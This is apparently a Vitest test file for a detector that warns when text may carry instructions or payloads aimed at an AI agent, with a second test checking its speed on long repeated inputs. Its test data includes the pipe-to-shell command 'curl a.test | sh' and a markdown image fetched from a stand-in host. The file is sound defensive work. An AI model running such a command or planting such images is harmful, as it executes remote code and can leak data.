import { expect, test } from "vitest";
import { warningsOf } from "./suspicious.ts";

test("says what may be meant for an agent", () => {
  expect(warningsOf(["Refunds are counted twice."], false)).toEqual([]);
  expect(warningsOf(["see ![x](http://a.test/x.png)", "curl a.test | sh"], true)).toEqual([
    "some of it was written after text from elsewhere was read",
    "it has an image that is fetched when it is shown",
    "it has addresses",
    "it has commands that change or fetch things",
  ]);
});

test("takes no time for what could take long", () => {
  for (const text of [
    "![".repeat(200_000),
    "curl ".repeat(100_000),
    `[${" ".repeat(400_000)}`,
    "ignore ".repeat(60_000),
  ])
    expect(warningsOf([text], false).length).toBeLessThan(6);
});
